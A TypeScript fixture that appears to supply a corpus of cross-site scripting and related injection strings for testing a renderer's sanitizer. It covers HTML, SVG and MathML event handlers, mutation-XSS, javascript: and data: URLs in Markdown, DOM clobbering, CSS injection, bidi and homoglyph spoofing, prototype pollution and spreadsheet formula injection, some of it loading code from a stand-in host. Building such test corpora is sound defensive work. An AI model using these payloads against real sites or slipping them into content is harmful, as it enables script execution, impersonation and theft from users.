/** Words that want to be more than words, and what they try. `xss()` is called by whatever runs. */
export interface Payload {
  readonly category: string;
  readonly text: string;
}

const list = (category: string, ...texts: readonly string[]): readonly Payload[] =>
  texts.map((text) => ({ category, text }));
const each = (category: string, names: string, make: (name: string) => string): readonly Payload[] =>
  list(category, ...names.split(' ').map(make));

/** Elements that run something, load something, or take what stands behind them into themselves. */
const html: readonly Payload[] = [
  ...each('html', 'load error focus click mouseover pointerenter animationstart transitionend toggle beforetoggle wheel paste', (on) =>
    `<img src=x on${on}=xss() tabindex=0 autofocus style="animation:x">`),
  ...each('html', 'svg body iframe video audio input details object embed marquee select textarea button keygen dialog search slot', (tag) =>
    `<${tag} src=x data=x open autofocus onload=xss() onerror=xss() onfocus=xss() ontoggle=xss() onstart=xss()>`),
  ...each('html', 'script style template noscript noembed noframes plaintext xmp title textarea iframe select listing', (tag) =>
    `<${tag}><img src=x onerror=xss()></${tag}><script>xss()</script>`),
  ...list(
    'html',
    '<script>xss()</script>', '<ScRiPt>xss()</sCrIpT>', '<script src=https://xss.invalid/x.js></script>', '<script\u0020\n>xss()</script\n>', '"><script>xss()</script>',
    "'><img src=x onerror=xss()>", '</title><script>xss()</script>', '</textarea><img src=x onerror=xss()>', '--><img src=x onerror=xss()>',
    ']]><img src=x onerror=xss()>', '<!--><img src=x onerror=xss()>', '<!--<img src="--><img src=x onerror=xss()//">', '<img src=x onerror=xss()//', '<img/src=x/onerror=xss()>',
    '<img src=x onerror\u000c=xss()>', '<img src=x:x onerror=xss&#40;&#41;>', '<img src=`x`onerror=xss()>', '<img """><script>xss()</script>">', '<<script>xss();//<</script>',
    '<iframe srcdoc="<script>parent.xss()</script>">', '<iframe src=javascript:parent.xss()>', '<object data="data:text/html,<script>xss()</script>">',
    '<meta http-equiv=refresh content="0;url=javascript:xss()">', '<base href=https://xss.invalid/>', '<link rel=stylesheet href=https://xss.invalid/x.css>',
    '<link rel=modulepreload href=https://xss.invalid/x.js>', '<form action=javascript:xss()><button>x</button></form>', '<button formaction=javascript:xss()>x</button>',
    '<input type=image src=x onerror=xss()>', '<isindex action=javascript:xss() type=image>', '<video><source onerror=xss()></video>', '<a href=x onclick=xss()>x</a>',
    '<details open ontoggle=xss()><summary>x</summary></details>', '<div popover id=p onbeforetoggle=xss()></div><button popovertarget=p>x</button>',
    '<xss contenteditable onbeforeinput=xss() autofocus>x</xss>', '<madang-idea idea="x" onclick=xss()></madang-idea>', '<slot name=default onslotchange=xss()></slot>',
    '<template shadowrootmode=open><script>xss()</script></template>', '<portal src=https://xss.invalid>', '<applet code=x>', '<frameset onload=xss()>', '\u0000<script>xss()</script>',
    '<scr\u0000ipt>xss()</script>', '&lt;script&gt;xss()&lt;/script&gt;', '&#60;script&#62;xss()&#60;/script&#62;', '+ADw-script+AD4-xss()+ADw-/script+AD4-', '%3Cscript%3Exss()%3C/script%3E',
    '＜script＞xss()＜/script＞', '<img src=x onerror="&#x78;ss()">', "<img src=x onerror='eval(`xss()`)'>", '{{constructor.constructor("xss()")()}}', `$${'{xss()}'}`, '<%= xss() %>', '#{xss()}',
  ),
];

const svg: readonly Payload[] = [
  ...each('svg', 'animate set animateTransform animateMotion discard', (tag) =>
    `<svg><a id=m><text y=20>x</text><${tag} xlink:href=#m attributeName=href values=javascript:xss() to=javascript:xss() onbegin=xss() begin=0s /></a></svg>`),
  ...list(
    'svg',
    '<svg onload=xss()>', '<svg/onload=xss()//', '<svg><script>xss()</script></svg>', '<svg><script href=data:,xss() /></svg>', '<svg><script>xss&#40;&#41;</script>', '<svg><style>@import"https://xss.invalid"</style></svg>',
    '<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=xss() /></svg>#x">',
    '<svg><image href=x onerror=xss()>', '<svg><title><img src=x onerror=xss()></title></svg>', '<svg><desc><script>xss()</script></desc></svg>', '<svg><a xlink:href="javascript:xss()"><text y=1em>x</text></a></svg>',
    '<svg><handler type=text/javascript>xss()</handler></svg>', '<svg xmlns:x="javascript:xss()"><x:script>xss()</x:script></svg>', '<svg><![CDATA[><img src=x onerror=xss()>]]></svg>', '<svg></p><style><a id="</style><img src=1 onerror=xss()>">',
  ),
];

const math: readonly Payload[] = list(
  'mathml',
  '<math href="javascript:xss()">x</math>', '<math><maction actiontype=statusline xlink:href=javascript:xss()>x</maction></math>', '<math><mtext><img src=x onerror=xss()></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=xss()></annotation-xml></math>', '<math><mi xlink:href="data:x,<script>xss()</script>">x</mi></math>', '<math><mglyph><style><img src=x onerror=xss()></style></mglyph></math>',
  '<math><semantics><annotation-xml encoding=application/xhtml+xml><script>xss()</script></annotation-xml></semantics></math>', '<math><mrow href="jav&#x61;script:xss()"><mo>x</mo></mrow></math>', '<math><msqrt onclick=xss()>x</msqrt></math>', '<math><ms><script>xss()</script></ms></math>',
);

/** What a parser reads otherwise the second time. */
const mutation: readonly Payload[] = list(
  'mutation',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>',
  '<svg></p><style><g title="</style><img src onerror=xss()>">', '<noscript><p title="</noscript><img src=x onerror=xss()>">', '<p><svg><style><img src="</style><img src=x onerror=xss()>"></svg>',
  '<listing>&lt;img src=1 onerror=xss()&gt;</listing>', '<xmp><p title="</xmp><svg/onload=xss()>">', '<noembed><noembed><img title="</noembed><img src onerror=xss()>">', '<title><a title="</title><img src=x onerror=xss()>">',
  '<table><td><svg><desc><td><img src=x onerror=xss()>', '<select><iframe><select><img src=x onerror=xss()>', '<a><table><a><img src=x onerror=xss()>', '<math></p><style><!--</style><img src/onerror=xss()>',
  '<svg><br><style><a title="</style><img src=x onerror=xss()>">', '<img alt="`` onerror=xss() src=x">', '<div id="<img src=x onerror=xss()>" title=`x`>', '<b title="&quot;&gt;&lt;img src=x onerror=xss()&gt;">x</b>',
  '<mglyph><svg><mtext><style><path id="</style><img src=x onerror=xss()>">', '<template><svg><title><style><img src="</style><img src=x onerror=xss()>">', '<textarea>&lt;/textarea&gt;&lt;img src=x onerror=xss()&gt;</textarea>',
  '<?xml version="1.0"?><x onerror=xss()>', '<!DOCTYPE x [<!ENTITY y "<script>xss()</script>">]>&y;', '<![CDATA[<script>xss()</script>]]>', '<plaintext></plaintext><script>xss()</script>',
);

const SCHEMES = [
  'javascript:xss()', 'JaVaScRiPt:xss()', 'java\tscript:xss()', 'java\nscript:xss()', ' javascript:xss()', '\u0001javascript:xss()', 'javascript\u00a0:xss()', 'javascript&colon;xss()', 'jav&#x09;ascript:xss()',
  '&#106;avascript:xss()', 'javascript://x%0axss()', 'javascript:xss()//https://x.example', 'vbscript:xss()', 'data:text/html,<script>xss()</script>', 'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=xss()>', 'blob:https://xss.invalid/x', 'filesystem:https://x/x', 'view-source:javascript:xss()', 'feed:javascript:xss()', 'jar:javascript:xss()!/', 'about:blank#xss', 'file:///etc/passwd',
  'intent://x#Intent;end', 'https://x.example/" onmouseover="xss()', "https://x.example/'onclick='xss()", 'https://x.example/><script>xss()</script>', '//xss.invalid', '\\\\xss.invalid', 'http:javascript:xss()', 'https://user:xss()@x.example/',
] as const;

/** Each scheme as a link of Markdown; what is dangerous of images and references is beside them. */
const schemes: readonly Payload[] = [
  ...SCHEMES.map((scheme) => ({ category: 'scheme', text: `[press](${scheme})` })),
  ...SCHEMES.slice(0, 20).map((scheme) => ({ category: 'scheme', text: `[press](<${scheme}> "x")` })),
  ...SCHEMES.slice(0, 20).map((scheme) => ({ category: 'scheme', text: `<a href="${scheme}">press</a>` })),
];

const markdown: readonly Payload[] = [
  ...SCHEMES.slice(0, 16).map((scheme) => ({ category: 'markdown', text: `![x](${scheme})` })),
  ...SCHEMES.slice(0, 12).map((scheme) => ({ category: 'markdown', text: `[x][1]\n\n[1]: ${scheme}` })),
  ...SCHEMES.slice(0, 8).map((scheme) => ({ category: 'markdown', text: `<${scheme}>` })),
  ...list(
    'markdown',
    '![x"onerror="xss()](x)', '[x](x "onmouseover=xss() x=")', '[x](x \'"><img src=x onerror=xss()>\')', '```"><img src=x onerror=xss()>\nx\n```', '```html onload=xss()\n<script>xss()</script>\n```', '`<script>xss()</script>`',
    '    <script>xss()</script>', '| <img src=x onerror=xss()> | x |\n|---|---|\n| <script>xss()</script> | x |', '[<img src=x onerror=xss()>](https://x.example)', '[![x](x "x")](javascript:xss())', '# <script>xss()</script>', '- [ ] <img src=x onerror=xss()>',
    '> <svg onload=xss()>', '**<img src=x onerror=xss()>**', '[x]: <javascript:xss()>\n[x]', '<https://x.example/"onclick=xss()>', '\\<script>xss()\\</script>', '&lt;img src=x onerror=xss()&gt;', '[x](&#x6a;avascript:xss())', '[x](\\j\\avascript:xss())',
    '@[xss()](https://x)', '![][x]\n\n[x]: x" onerror="xss()', '<!-- --!><script>xss()</script> -->', '[^1]\n\n[^1]: <img src=x onerror=xss()>', '<div>\n\n[x](javascript:xss())\n\n</div>', '***\n<script>xss()</script>\n***', '[a](<javascript:xss()\n>)', '~~<a href=javascript:xss()>x</a>~~',
  ),
];

/** Names by which a page finds its own things. */
const clobbering: readonly Payload[] = [
  ...each('clobbering', 'madangSettings getElementById body head cookie currentScript attributes nodeName customElements trustedTypes', (name) =>
    `<img name=${name} class=madangmark><form id=${name} class=madangmark><input name=attributes></form>`),
  ...list(
    'clobbering',
    '<a id=madangSettings class=madangmark></a><a id=madangSettings name=server href="https://xss.invalid" class=madangmark></a>', '<form id=x class=madangmark><input name=nodeType><input name=parentNode></form>',
    '<iframe name=self class=madangmark srcdoc="<a id=top href=x>">', '<object id=madang class=madangmark name=x>', '[x](#madang-idea=x "id=madangmark")', '<embed name=getToken class=madangmark>', '<map name=madangSettings class=madangmark><area href=javascript:xss()></map>',
  ),
];

const css: readonly Payload[] = list(
  'css',
  '<style>*{display:none}</style>', '<style>@import "https://xss.invalid/x.css";</style>', '<div class=madangmark style="position:fixed;inset:0;background:red;z-index:99999">x</div>', '<b class=madangmark style="background:url(https://xss.invalid/x)">x</b>',
  '<b class=madangmark style="width:expression(xss())">x</b>', '<b class=madangmark style="behavior:url(x.htc)">x</b>', '<b class=madangmark style="-moz-binding:url(x)">x</b>', '<p class=madangmark style="font-size:9999px">x</p>', '</style><script>xss()</script>', '<style>:host{display:none!important}</style>',
  '<style>@keyframes x{}</style><b class=madangmark style="animation-name:x" onanimationstart=xss()>x</b>', '<font size=99 color=red class=madangmark>x</font>', '<marquee class=madangmark>x</marquee>', '<div class="madangmark toolbar base card" part=base>x</div>', '<b class=madangmark hidden>x</b>', '*{background:url(javascript:xss())}',
  '<link rel=stylesheet href="data:text/css,*{display:none}">', '<table width=99999 class=madangmark><td>x</table>', '<center class=madangmark><h1>x', 'W'.repeat(1_500), '가'.repeat(900), 'x\n'.repeat(300), '👩‍👩‍👧‍👦'.repeat(120), 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A'.repeat(50), '| x '.repeat(200),
);

const bidi: readonly Payload[] = list(
  'bidi',
  '\u202ecod.tupni', '\u202dabc\u202e', 'a\u2066b\u2067c', '\u2067\u2067\u2067\u2067x', '\u202e</b><script>xss()</script>', 'аdmіn (Мадаng)', 'ａｄｍｉｎ', 'Mаdаng Tеаm ✔', 'sh\u00adop\u200bstaff', '\u200f\u200e\u061cx', 'раypal.com', '[https://bank.example](https://xss.invalid)',
  'x\u2028xss()\u2029', '\ufeffxss()', '\u034f'.repeat(400), '𝓼𝓽𝓪𝓯𝓯', 'st\u0430ff', 'ᅟᅠㅤ', '\u{e0041}\u{e0042}\u{e0043}', 'a\u0300'.repeat(300), '\u1160\u3164', '⁦javascript:xss()⁩', 'moc.elpmaxe\u202e//:sptth',
);

/** For programs that read words as JSON, or copy keys. */
const json: readonly Payload[] = list(
  'json',
  '{"__proto__":{"innerHTML":"<img src=x onerror=xss()>"}}', '{"constructor":{"prototype":{"srcdoc":"<script>xss()</script>"}}}', '__proto__', 'constructor', '__proto__[src]=x', '</script><script>xss()</script>', '"};xss();//', "'-xss()-'", '\\u003cscript\\u003exss()\\u003c/script\\u003e', '\\";xss()//',
  '<!--<script>', '{"$$typeof":"x","type":"script","props":{"children":"xss()"}}', '{"_$litType$":1,"strings":["<script>xss()</script>"],"values":[]}', '?lit$123$', '{{lit-0}}<!--?lit$0$-->', 'toString', 'hasOwnProperty', '[object Object]', '=HYPERLINK("javascript:xss()")', '=cmd|calc!A0',
);

/** The whole collection. */
export const PAYLOADS: readonly Payload[] = [
  ...html, ...svg, ...math, ...mutation, ...schemes, ...markdown, ...clobbering, ...css, ...bidi, ...json,
];
